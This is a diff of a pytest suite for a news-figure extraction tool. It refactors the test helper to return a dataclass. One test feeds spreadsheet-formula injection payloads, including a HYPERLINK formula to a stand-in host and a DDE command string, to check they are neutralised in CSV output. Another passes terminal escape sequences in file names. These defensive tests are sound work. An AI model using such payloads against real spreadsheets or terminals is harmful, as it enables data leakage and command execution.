@@ -18,6 +18,7 @@ import subprocess
 import sys
 import threading
 import time
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
@@ -43,10 +44,19 @@ FAMILIES_ARTICLE = (
 )
 
 
-def run(argv: list[str], capsys) -> tuple[int, str, str]:
+@dataclass(frozen=True)
+class Ran:
+    """What a run of the command line gave: its exit code and what it printed."""
+
+    code: int
+    out: str
+    err: str
+
+
+def run(argv: list[str], capsys) -> Ran:
     code = cli.main(argv)
     out, err = capsys.readouterr()
-    return code, out, err
+    return Ran(code, out, err)
 
 
 @pytest.fixture
@@ -82,16 +92,16 @@ def library_rows(paths: list[str], fmt: str = "csv", **read) -> str:
 
 @pytest.mark.parametrize("fmt", export.FORMATS)
 def test_stdout_holds_exactly_the_figures_of_the_library(seeds, capsys, fmt):
-    code, out, err = run(["extract", seeds, "--format", fmt], capsys)
-    assert code == cli.OK, err
-    assert out == library_rows([seeds], fmt)
-    assert "documents read" in err, "the summary goes to stderr, never into the data"
+    ran = run(["extract", seeds, "--format", fmt], capsys)
+    assert ran.code == cli.OK, ran.err
+    assert ran.out == library_rows([seeds], fmt)
+    assert "documents read" in ran.err, "the summary goes to stderr, never into the data"
 
 
 def test_csv_output_is_the_schema_with_one_row_per_figure(seeds, capsys):
-    code, out, _ = run(["extract", seeds], capsys)
-    rows = list(csv.DictReader(io.StringIO(out)))
-    assert code == cli.OK
+    ran = run(["extract", seeds], capsys)
+    rows = list(csv.DictReader(io.StringIO(ran.out)))
+    assert ran.code == cli.OK
     assert rows and tuple(rows[0]) == NAMES
     assert {r["document"] for r in rows} <= {f"seeds/{p.name}" for p in SEEDS.iterdir()}
     assert all(r["quote"] and r["indicator"] for r in rows)
@@ -103,8 +113,8 @@ def test_csv_output_is_the_schema_with_one_row_per_figure(seeds, capsys):
     ("figures.json", json.loads),
 ])
 def test_output_file_format_follows_its_name(seeds, capsys, tmp_path, name, parse):
-    code, out, _ = run(["extract", seeds, "-o", str(tmp_path / name)], capsys)
-    assert (code, out) == (cli.OK, "")
+    ran = run(["extract", seeds, "-o", str(tmp_path / name)], capsys)
+    assert (ran.code, ran.out) == (cli.OK, "")
     text = (tmp_path / name).read_text(encoding="utf-8")
     assert text == library_rows([seeds], export.format_for(name))
     assert len(parse(text)) == len(list(csv.DictReader(io.StringIO(library_rows([seeds])))))
@@ -114,15 +124,15 @@ def test_summary_and_report_account_for_every_input(seeds, capsys, tmp_path):
     (tmp_path / "empty.txt").write_text("   \n")
     (tmp_path / "scan.txt").write_bytes(b"%PDF-1.7\n\x00\x01binary")
     report = tmp_path / "run.json"
-    code, _, err = run(
+    ran = run(
         ["extract", seeds, "empty.txt", "scan.txt", "missing.txt", "--report", str(report)], capsys
     )
-    assert code == cli.OK, "a run that read something succeeds even when some inputs were skipped"
+    assert ran.code == cli.OK, "a run that read something succeeds even when some inputs were skipped"
     entries = json.loads(report.read_text())["inputs"]
     assert [e["source"] for e in entries if e["outcome"] == "skipped"] == ["empty.txt", "scan.txt", "missing.txt"]
     assert len(entries) == 3 + 3, "three seed documents and three skipped inputs"
     for name in ("empty.txt", "scan.txt", "missing.txt"):
-        assert name in err, f"the summary names the skipped input {name}"
+        assert name in ran.err, f"the summary names the skipped input {name}"
 
 
 def mixed_inputs(tmp_path: Path) -> list[str]:
@@ -152,10 +162,10 @@ def test_report_file_and_summary_are_those_of_a_report_keeping_every_entry(seeds
         else:
             kept.skip(item)
     kept.write(tmp_path / f"expected{suffix}")
-    code, _, err = run(["extract", *inputs, "-o", "figures.csv", "-j", jobs, "--report", f"run{suffix}"], capsys)
-    assert code == cli.OK, err
+    ran = run(["extract", *inputs, "-o", "figures.csv", "-j", jobs, "--report", f"run{suffix}"], capsys)
+    assert ran.code == cli.OK, ran.err
     assert (tmp_path / f"run{suffix}").read_bytes() == (tmp_path / f"expected{suffix}").read_bytes()
-    assert err.rstrip("\n").endswith(kept.summary()), err
+    assert ran.err.rstrip("\n").endswith(kept.summary()), ran.err
     assert kept.skipped >= 5 and kept.without_figures and kept.undated and kept.warned, kept.summary()
     assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")], "no temporary file left"
 
@@ -163,16 +173,16 @@ def test_report_file_and_summary_are_those_of_a_report_keeping_every_entry(seeds
 @pytest.mark.parametrize("where", ["no-such-folder/run.json", "seeds/000_b12168d2a7b52039.txt/run.csv", "a-folder.json"])
 def test_a_report_that_cannot_be_written_fails_before_the_run(seeds, capsys, tmp_path, where):
     (tmp_path / "a-folder.json").mkdir()
-    code, out, err = run(["extract", seeds, "--report", where], capsys)
-    assert (code, out) == (cli.FAILED, ""), "no figure is extracted for a run whose report cannot be written"
-    assert err.count("\n") == 1 and err.startswith(f"tracker: error: cannot write the report {where}: "), err
-    assert "Traceback" not in err
+    ran = run(["extract", seeds, "--report", where], capsys)
+    assert (ran.code, ran.out) == (cli.FAILED, ""), "no figure is extracted for a run whose report cannot be written"
+    assert ran.err.count("\n") == 1 and ran.err.startswith(f"tracker: error: cannot write the report {where}: "), ran.err
+    assert "Traceback" not in ran.err
 
 
 @pytest.mark.parametrize("suffix", [".json", ".jsonl", ".csv"])
 def test_a_report_written_into_the_folder_being_read_is_not_one_of_its_inputs(seeds, capsys, tmp_path, suffix):
-    code, _, err = run(["extract", seeds, "-o", "figures.csv", "--report", f"seeds/run{suffix}"], capsys)
-    assert code == cli.OK, err
+    ran = run(["extract", seeds, "-o", "figures.csv", "--report", f"seeds/run{suffix}"], capsys)
+    assert ran.code == cli.OK, ran.err
     records = report_records(tmp_path / "seeds" / f"run{suffix}")
     assert [r["source"] for r in records] == [f"seeds/{p.name}" for p in sorted(SEEDS.glob("*.txt"))]
     assert "skipped" not in {r["outcome"] for r in records}, "no temporary file of the report was listed"
@@ -185,16 +195,16 @@ def test_figures_written_into_the_folder_being_read_are_not_read_back(seeds, cap
     temporary file it is written through are this run's output, named as such, not inputs."""
     argv = ["extract", seeds, "-o", "seeds/figures.csv", "--report", "run.jsonl"]
     if again:
-        assert run(argv, capsys)[0] == cli.OK
-    code, _, err = run(argv, capsys)
-    assert code == cli.OK, err
+        assert run(argv, capsys).code == cli.OK
+    ran = run(argv, capsys)
+    assert ran.code == cli.OK, ran.err
     records = report_records(tmp_path / "run.jsonl")
     read = [r["source"] for r in records if r["outcome"] != "skipped"]
     assert read == [f"seeds/{p.name}" for p in sorted(SEEDS.glob("*.txt"))]
     skipped = {r["source"]: r["reason"] for r in records if r["outcome"] == "skipped"}
     assert all("this run's own output" in reason for reason in skipped.values()), skipped
     assert ("seeds/figures.csv" in skipped) is again  # the file of the run before
-    assert "this run's own output" in err
+    assert "this run's own output" in ran.err
     rows = list(csv.DictReader(open(tmp_path / "seeds" / "figures.csv", newline="", encoding="utf-8")))
     assert len(rows) == 9  # the seed figures, once
 
@@ -220,9 +230,9 @@ def test_an_output_that_would_destroy_an_input_is_refused_before_reading(seeds, 
     os.link(tmp_path / "feed.jsonl", tmp_path / "hard.jsonl")
     (tmp_path / "link.jsonl").symlink_to("feed.jsonl")
     before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
-    code, out, err = run(["extract", *argv], capsys)
-    assert (code, out) == (cli.USAGE, ""), (argv, err)
-    assert err.startswith(f"tracker: error: {told}") and err.count("\n") == 1, err
+    ran = run(["extract", *argv], capsys)
+    assert (ran.code, ran.out) == (cli.USAGE, ""), (argv, ran.err)
+    assert ran.err.startswith(f"tracker: error: {told}") and ran.err.count("\n") == 1, ran.err
     assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before, "every input untouched"
 
 
@@ -240,9 +250,9 @@ def test_a_report_that_fails_half_way_is_one_line_error(seeds, capsys, tmp_path,
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(cli.ReportFile, "add", full)
-    code, _, err = run(["extract", seeds, "-o", "figures.csv", "--report", "run.jsonl"], capsys)
-    assert code == cli.FAILED
-    assert err.strip().splitlines()[-1] == "tracker: error: cannot write the report run.jsonl: No space left on device"
+    ran = run(["extract", seeds, "-o", "figures.csv", "--report", "run.jsonl"], capsys)
+    assert ran.code == cli.FAILED
+    assert ran.err.strip().splitlines()[-1] == "tracker: error: cannot write the report run.jsonl: No space left on device"
     assert sorted(p.name for p in tmp_path.iterdir()) == ["seeds"], "neither figures nor report half-written"
 
 
@@ -256,15 +266,15 @@ def test_a_failed_run_keeps_the_previous_report(seeds, capsys, tmp_path, monkeyp
         interrupt_at_second_document(monkeypatch)
     else:
         output = tmp_path / "no-such-folder" / "figures.csv"
-    code, _, _ = run(["extract", seeds, "-o", str(output), "--report", str(report)], capsys)
+    code = run(["extract", seeds, "-o", str(output), "--report", str(report)], capsys).code
     assert code == (cli.INTERRUPTED if failure == "interrupted" else cli.FAILED)
     assert report.read_text() == "yesterday's report\n"
     assert sorted(p.name for p in tmp_path.iterdir()) == sorted([report.name, "seeds"]), "no temporary file left"
 
 
 def test_default_date_dates_the_undated_document(seeds, capsys):
-    _, undated, _ = run(["extract", seeds, "--format", "jsonl"], capsys)
-    _, dated, _ = run(["extract", seeds, "--format", "jsonl", "--date", "2020-02-20"], capsys)
+    undated = run(["extract", seeds, "--format", "jsonl"], capsys).out
+    dated = run(["extract", seeds, "--format", "jsonl", "--date", "2020-02-20"], capsys).out
     before = [json.loads(line) for line in undated.splitlines() if UNDATED_SEED in line]
     after = [json.loads(line) for line in dated.splitlines() if UNDATED_SEED in line]
     assert before and all(r["date"] is None and r["published"] is None for r in before)
@@ -275,8 +285,8 @@ def test_default_date_dates_the_undated_document(seeds, capsys):
 def test_household_size_turns_families_into_people(tmp_path, capsys):
     article = tmp_path / "ocha.txt"
     article.write_text(FAMILIES_ARTICLE)
-    _, default, _ = run(["extract", str(article), "--format", "jsonl"], capsys)
-    _, six, _ = run(["extract", str(article), "--format", "jsonl", "--household-size", "6"], capsys)
+    default = run(["extract", str(article), "--format", "jsonl"], capsys).out
+    six = run(["extract", str(article), "--format", "jsonl", "--household-size", "6"], capsys).out
     families = [json.loads(line) for line in default.splitlines()]
     assert [(r["value"], r["unit"], r["people"]) for r in families] == [(1200, "families", 6000)], FAMILIES_ARTICLE
     assert [json.loads(line)["people"] for line in six.splitlines()] == [7200], FAMILIES_ARTICLE
@@ -301,10 +311,10 @@ def test_household_size_turns_families_into_people(tmp_path, capsys):
     ],
 )
 def test_usage_errors_exit_2_with_a_message(seeds, capsys, argv, code):
-    got, out, err = run(argv, capsys)
-    assert got == code, argv
+    ran = run(argv, capsys)
+    assert ran.code == code, argv
     if code == cli.USAGE:
-        assert "error:" in err and out == "", argv
+        assert "error:" in ran.err and ran.out == "", argv
 
 
 @pytest.mark.parametrize("name", ["figures.feather", "figures.xlsx", "figures.txt", "figures.CSV.gz"])
@@ -312,10 +322,10 @@ def test_an_output_ending_the_tracker_does_not_write_is_refused(seeds, tmp_path,
     """`-o x.xlsx` would be CSV under a name that promises a workbook: a usage error that
     names the ending and the way out, and no file is written."""
     target = tmp_path / name
-    got, out, err = run(["extract", "seeds", "-o", str(target)], capsys)
+    ran = run(["extract", "seeds", "-o", str(target)], capsys)
     suffix = target.suffix.lower()
-    assert (got, out) == (cli.USAGE, ""), name
-    assert f"does not write {suffix!r}" in err and "--format" in err and err.count("error:") == 1, err
+    assert (ran.code, ran.out) == (cli.USAGE, ""), name
+    assert f"does not write {suffix!r}" in ran.err and "--format" in ran.err and ran.err.count("error:") == 1, ran.err
     assert not target.exists() and not list(tmp_path.glob(f".{name}*")), name
 
 
@@ -327,8 +337,8 @@ def test_an_output_ending_the_tracker_does_not_write_is_refused(seeds, tmp_path,
 ])
 def test_an_output_ending_is_written_when_format_says_what_to_write(seeds, tmp_path, capsys, name, fmt, first):
     target = tmp_path / name
-    got, _, err = run(["extract", "seeds", "-o", str(target), *(["--format", fmt] if fmt else [])], capsys)
-    assert got == cli.OK, err
+    ran = run(["extract", "seeds", "-o", str(target), *(["--format", fmt] if fmt else [])], capsys)
+    assert ran.code == cli.OK, ran.err
     assert target.read_text(encoding="utf-8").startswith(first), name
 
 
@@ -344,31 +354,31 @@ def test_nothing_readable_exits_1(tmp_path, monkeypatch, capsys, inputs, reason)
     monkeypatch.chdir(tmp_path)
     (tmp_path / "empty-folder").mkdir()
     (tmp_path / "blank.txt").write_text("\n\n")
-    code, out, err = run(["extract", *inputs], capsys)
-    assert code == cli.FAILED, inputs
-    assert reason in err and "no document could be read" in err, err
-    assert out.splitlines() == [",".join(NAMES)], "the output is still a well-formed, empty CSV"
+    ran = run(["extract", *inputs], capsys)
+    assert ran.code == cli.FAILED, inputs
+    assert reason in ran.err and "no document could be read" in ran.err, ran.err
+    assert ran.out.splitlines() == [",".join(NAMES)], "the output is still a well-formed, empty CSV"
 
 
 def test_too_large_documents_are_skipped_not_truncated(seeds, capsys):
-    code, out, err = run(["extract", seeds, "--max-bytes", "100"], capsys)
-    assert code == cli.FAILED
-    assert "too_large" in err or "too large" in err, err
+    ran = run(["extract", seeds, "--max-bytes", "100"], capsys)
+    assert ran.code == cli.FAILED
+    assert "too_large" in ran.err or "too large" in ran.err, ran.err
 
 
 def test_an_unwritable_output_is_one_line_error(seeds, capsys, tmp_path):
-    code, out, err = run(["extract", seeds, "-o", str(tmp_path / "no-such-folder" / "out.csv")], capsys)
-    assert code == cli.FAILED
-    assert err.strip().splitlines()[-1].startswith("tracker: error: cannot write"), err
-    assert "Traceback" not in err
+    ran = run(["extract", seeds, "-o", str(tmp_path / "no-such-folder" / "out.csv")], capsys)
+    assert ran.code == cli.FAILED
+    assert ran.err.strip().splitlines()[-1].startswith("tracker: error: cannot write"), ran.err
+    assert "Traceback" not in ran.err
 
 
 def test_an_interrupted_run_keeps_the_previous_output(seeds, capsys, tmp_path, monkeypatch):
     out_file = tmp_path / "figures.csv"
     out_file.write_text("yesterday's figures\n")
     interrupt_at_second_document(monkeypatch)
-    code, _, err = run(["extract", seeds, "-o", str(out_file)], capsys)
-    assert code == cli.INTERRUPTED
+    ran = run(["extract", seeds, "-o", str(out_file)], capsys)
+    assert ran.code == cli.INTERRUPTED
     assert out_file.read_text() == "yesterday's figures\n"
     assert sorted(p.name for p in tmp_path.iterdir()) == ["figures.csv", "seeds"], "no temporary file left"
 
@@ -381,9 +391,9 @@ def test_a_document_the_engine_fails_on_is_reported_and_the_rest_goes_on(seeds, 
 
     monkeypatch.setattr(jobs, "extract_document", fragile)
     report = tmp_path / "run.jsonl"
-    code, out, err = run(["extract", seeds, "--report", str(report)], capsys)
-    assert code == cli.OK
-    documents = {r["document"] for r in csv.DictReader(io.StringIO(out))}
+    ran = run(["extract", seeds, "--report", str(report)], capsys)
+    assert ran.code == cli.OK
+    documents = {r["document"] for r in csv.DictReader(io.StringIO(ran.out))}
     assert "seeds/000_b12168d2a7b52039.txt" in documents and not any("001_" in d for d in documents)
     failed = [json.loads(line) for line in report.read_text().splitlines() if "001_" in line]
     assert failed[0]["outcome"] == "skipped"
@@ -395,17 +405,17 @@ def test_dask_engine_without_dask_is_one_line_error(seeds, capsys):
     try:
         import dask  # noqa: F401
     except ImportError:
-        code, out, err = run(["extract", seeds, "--engine", "dask"], capsys)
-        assert (code, out) == (cli.FAILED, "")
-        assert err.count("\n") == 1 and "pip install 'tracker[dask]'" in err, err
+        ran = run(["extract", seeds, "--engine", "dask"], capsys)
+        assert (ran.code, ran.out) == (cli.FAILED, "")
+        assert ran.err.count("\n") == 1 and "pip install 'tracker[dask]'" in ran.err, ran.err
     else:
         pytest.skip("dask is installed: tests/test_dask.py runs the Dask engine")
 
 
 def test_evaluate_is_delegated(capsys, tmp_path):
     pytest.importorskip("tracker.output.evaluate")
-    code, out, err = run(["evaluate", str(tmp_path / "missing.jsonl")], capsys)
-    assert code != cli.OK and "missing.jsonl" in err
+    ran = run(["evaluate", str(tmp_path / "missing.jsonl")], capsys)
+    assert ran.code != cli.OK and "missing.jsonl" in ran.err
 
 
 def varied_feed(path: Path, count: int) -> Path:
@@ -439,11 +449,11 @@ def test_python_dash_m_and_a_closed_pipe(tmp_path):
 def test_dask_engine_gives_the_local_rows(tmp_path, capsys):
     pytest.importorskip("distributed", reason="the Dask engine needs tracker[dask]")
     feed = str(varied_feed(tmp_path / "feed.jsonl", 60))
-    code, local, _ = run(["extract", feed, "--format", "jsonl"], capsys)
-    assert code == cli.OK
-    code, on_dask, err = run(["extract", feed, "--format", "jsonl", "--engine", "dask", "--jobs", "2"], capsys)
-    assert code == cli.OK, err
-    assert on_dask == local
+    local = run(["extract", feed, "--format", "jsonl"], capsys)
+    assert local.code == cli.OK
+    on_dask = run(["extract", feed, "--format", "jsonl", "--engine", "dask", "--jobs", "2"], capsys)
+    assert on_dask.code == cli.OK, on_dask.err
+    assert on_dask.out == local.out
 
 
 # --- progress -----------------------------------------------------------------------------
@@ -499,18 +509,18 @@ def test_a_json_number_too_long_to_read_loses_only_its_line(tmp_path, capsys, mo
         f'{{"text": "More than 500 civilians were killed.", "n": {HUGE_INTEGER}}}\n'
         '{"text": "About 300 people were displaced."}\n'
     )
-    code, out, err = run(["extract", "big.jsonl", "-o", "out.csv"], capsys)
-    assert code == cli.OK, err
-    assert "Traceback" not in err and "1 × malformed JSON on line 1: a number too long to read" in err, err
+    ran = run(["extract", "big.jsonl", "-o", "out.csv"], capsys)
+    assert ran.code == cli.OK, ran.err
+    assert "Traceback" not in ran.err and "1 × malformed JSON on line 1: a number too long to read" in ran.err, ran.err
     assert [r["document"] for r in csv.DictReader(open("out.csv", encoding="utf-8"))] == ["big.jsonl:2"]
 
 
 def test_a_loop_of_links_is_one_unreadable_entry_not_the_end_of_the_run(seeds, capsys, tmp_path):
     (tmp_path / "seeds" / "a.txt").symlink_to("b.txt")
     (tmp_path / "seeds" / "b.txt").symlink_to("a.txt")
-    code, _, err = run(["extract", seeds, "-o", "out.csv"], capsys)
-    assert code == cli.OK, err
-    assert "2 × cannot read: Too many levels of symbolic links — seeds/a.txt, seeds/b.txt" in err, err
+    ran = run(["extract", seeds, "-o", "out.csv"], capsys)
+    assert ran.code == cli.OK, ran.err
+    assert "2 × cannot read: Too many levels of symbolic links — seeds/a.txt, seeds/b.txt" in ran.err, ran.err
     assert len(list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8")))) == 9
 
 
@@ -530,12 +540,12 @@ def kill_worker_at(monkeypatch, doc_id: str) -> None:
 def test_a_worker_killed_under_jobs_is_one_error_line_naming_the_lost_documents(seeds, capsys, tmp_path, monkeypatch):
     (tmp_path / "figures.csv").write_text("the figures of yesterday\n")
     kill_worker_at(monkeypatch, sorted(f"seeds/{p.name}" for p in SEEDS.glob("*.txt"))[1])
-    code, out, err = run(["extract", seeds, "-j", "2", "-o", "figures.csv"], capsys)
-    assert (code, out) == (cli.FAILED, ""), err
-    assert "Traceback" not in err and "BrokenProcessPool" not in err, err
-    (error,) = [line for line in err.splitlines() if line.startswith("tracker: error:")]
+    ran = run(["extract", seeds, "-j", "2", "-o", "figures.csv"], capsys)
+    assert (ran.code, ran.out) == (cli.FAILED, ""), ran.err
+    assert "Traceback" not in ran.err and "BrokenProcessPool" not in ran.err, ran.err
+    (error,) = [line for line in ran.err.splitlines() if line.startswith("tracker: error:")]
     assert "a worker process died" in error and "seeds/" in error, error
-    assert "failed" in err and "the worker process extracting it died" in err, "the summary names the lost documents"
+    assert "failed" in ran.err and "the worker process extracting it died" in ran.err, "the summary names the lost documents"
     assert (tmp_path / "figures.csv").read_text() == "the figures of yesterday\n", "the old output survives"
     assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")]
 
@@ -543,8 +553,8 @@ def test_a_worker_killed_under_jobs_is_one_error_line_naming_the_lost_documents(
 def test_output_through_a_link_writes_its_target_and_keeps_the_link(seeds, capsys, tmp_path):
     (tmp_path / "real.csv").write_text("old\n")
     (tmp_path / "figures.csv").symlink_to("real.csv")
-    code, _, err = run(["extract", seeds, "-o", "figures.csv"], capsys)
-    assert code == cli.OK, err
+    ran = run(["extract", seeds, "-o", "figures.csv"], capsys)
+    assert ran.code == cli.OK, ran.err
     assert (tmp_path / "figures.csv").is_symlink(), "the link stays a link"
     assert (tmp_path / "real.csv").read_text(encoding="utf-8") == library_rows([seeds])
 
@@ -559,9 +569,9 @@ def test_output_into_a_named_pipe_is_written_through_not_replaced(seeds, capsys,
     received = []
     reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
     reader.start()
-    code, _, err = run(["extract", seeds, "-f", "csv", "-o", str(pipe)], capsys)
+    ran = run(["extract", seeds, "-f", "csv", "-o", str(pipe)], capsys)
     reader.join(timeout=60)
-    assert code == cli.OK, err
+    assert ran.code == cli.OK, ran.err
     assert stat.S_ISFIFO(pipe.stat().st_mode), "the pipe is still a pipe"
     assert received == [library_rows([seeds]).encode()]
 
@@ -572,8 +582,8 @@ def test_temporary_files_of_a_killed_run_are_swept_by_the_next(seeds, capsys, tm
     stale.write_text("half of a run that was killed\n")
     unrelated = tmp_path / ".other.csv.1.abcd.part"
     unrelated.write_text("another output's file\n")
-    code, _, err = run(["extract", seeds, "-o", "figures.csv"], capsys)
-    assert code == cli.OK, err
+    ran = run(["extract", seeds, "-o", "figures.csv"], capsys)
+    assert ran.code == cli.OK, ran.err
     assert not stale.exists(), "the dead run's temporary file is gone"
     assert unrelated.exists(), "only files of the same output name are swept"
 
@@ -604,15 +614,15 @@ def test_spreadsheet_formulas_in_inputs_do_not_reach_a_csv_cell_raw(tmp_path, ca
         json.dumps({"id": '=HYPERLINK("http://x/"&A1)', "outlet": "+cmd|' /C calc'!A0", "title": "@SUM(1+1)",
                     "text": "More than 500 civilians were killed."}) + "\n"
     )
-    code, out, err = run(["extract", "f.jsonl", "--report", "run.csv"], capsys)
-    assert code == cli.OK, err
-    (row,) = csv.DictReader(io.StringIO(out))
+    ran = run(["extract", "f.jsonl", "--report", "run.csv"], capsys)
+    assert ran.code == cli.OK, ran.err
+    (row,) = csv.DictReader(io.StringIO(ran.out))
     assert (row["document"], row["outlet"], row["title"]) == ("'=HYPERLINK(\"http://x/\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(1+1)")
     assert row["value"] == "500", "numbers stay numbers"
     (entry,) = csv.DictReader(open("run.csv", encoding="utf-8"))
     assert entry["source"] == "'=HYPERLINK(\"http://x/\"&A1)", "the report's CSV too"
-    code, out, _ = run(["extract", "f.jsonl", "-f", "jsonl"], capsys)
-    assert json.loads(out)["document"] == '=HYPERLINK("http://x/"&A1)', "JSON Lines stay exact"
+    ran = run(["extract", "f.jsonl", "-f", "jsonl"], capsys)
+    assert json.loads(ran.out)["document"] == '=HYPERLINK("http://x/"&A1)', "JSON Lines stay exact"
 
 
 @pytest.mark.parametrize(
@@ -626,8 +636,8 @@ def test_control_characters_in_names_reach_the_terminal_escaped(tmp_path, capsys
     monkeypatch.chdir(tmp_path)
     Path(name).write_text(json.dumps({"id": row_id, "text": "About 300 people were displaced."}) + "\n")
     Path("x\x1b[31mred\nfake.txt").write_text("  \n")
-    code, _, err = run(["extract", name, "x\x1b[31mred\nfake.txt"], capsys)
-    assert code == cli.OK, err
-    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", err), repr(err)
-    assert not [line for line in err.splitlines() if line.startswith(("Skipped: 9999", "fake.txt"))], err
-    assert "\\x1b" in err
+    ran = run(["extract", name, "x\x1b[31mred\nfake.txt"], capsys)
+    assert ran.code == cli.OK, ran.err
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", ran.err), repr(ran.err)
+    assert not [line for line in ran.err.splitlines() if line.startswith(("Skipped: 9999", "fake.txt"))], ran.err
+    assert "\\x1b" in ran.err
